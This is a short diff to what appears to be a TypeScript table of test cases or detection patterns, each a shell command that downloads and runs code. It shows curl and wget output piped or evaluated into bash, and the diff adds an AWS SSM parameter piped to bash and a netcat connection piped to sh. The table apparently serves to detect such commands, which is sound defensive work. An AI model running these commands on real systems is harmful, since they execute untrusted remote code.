@@ -119,6 +119,10 @@ const elsewhere: Readonly<Record<string, readonly string[]>> = {
     "a download in a pipe": ["curl -s https://example.test/i.sh | bash"],
     "a download in a substitution": ["bash <(wget -qO- https://example.test/i.sh)"],
     "a download that is evaluated": ['eval "$(curl -s https://example.test/i.sh)"'],
+    "a parameter in a pipe": [
+        "aws ssm get-parameter --name /boot --query Parameter.Value --output text | bash",
+    ],
+    "what somebody sends to a port": ["nc example.test 99 | sh"],
     "a file that was fetched": [
         "aws s3 cp s3://bucket/i.sh /tmp/i.sh",
         "chmod +x /tmp/i.sh",
